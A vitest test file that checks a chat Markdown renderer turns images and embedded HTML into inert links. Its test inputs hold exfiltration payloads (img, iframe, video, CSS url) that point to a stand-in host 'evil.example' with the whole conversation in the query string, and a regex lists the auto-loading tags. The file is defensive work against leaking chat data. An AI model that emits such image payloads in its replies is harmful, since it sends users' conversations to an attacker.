import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Markdown } from "@/components/chat/markdown";

const draw = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));
const address = "https://evil.example/?q=the-whole-conversation";

/** What a browser asks for by itself, without a click. */
const loads =
  /<(?:img|picture|source|video|audio|iframe|embed|object|link|script|style)\b|\bsrc(?:set)?=|url\(/i;

describe("an image in a reply", () => {
  test("is its words with a link, and loads nothing", () => {
    const html = draw(`Look: ![a chart](${address})`);
    expect(html).toContain(`href="${address}"`);
    expect(html).toContain(">a chart</a>");
    expect(html).not.toMatch(loads);
  });

  test("without words is still a link", () => {
    expect(draw(`![](${address})`)).toContain(">Image</a>");
  });

  test("in a link is that link's words", () => {
    const html = draw(`[![the build](${address})](https://example.com/build)`);
    expect(html.match(/<a\b/g)).toHaveLength(1);
    expect(html).toMatch(/href="https:\/\/example\.com\/build"[^>]*>the build<\/a>/);
    expect(html).not.toMatch(loads);
  });

  test.each([
    `<img src="${address}" alt="x">`,
    `<picture><source srcset="${address}"><img src="${address}"></picture>`,
    `<video src="${address}" poster="${address}"></video>`,
    `<p style="background:url(${address})">x</p>`,
    `<iframe src="${address}"></iframe>`,
    `<link rel="stylesheet" href="${address}">`,
    `![x][1]\n\n[1]: ${address}`,
  ])("loads nothing as %s", (text) => {
    expect(draw(text)).not.toMatch(loads);
  });
});

test("a link opens beside the page and tells no address", () => {
  expect(draw("[Docs](https://example.com/docs)")).toMatch(
    /<a href="https:\/\/example\.com\/docs" target="_blank" rel="noreferrer"/,
  );
});
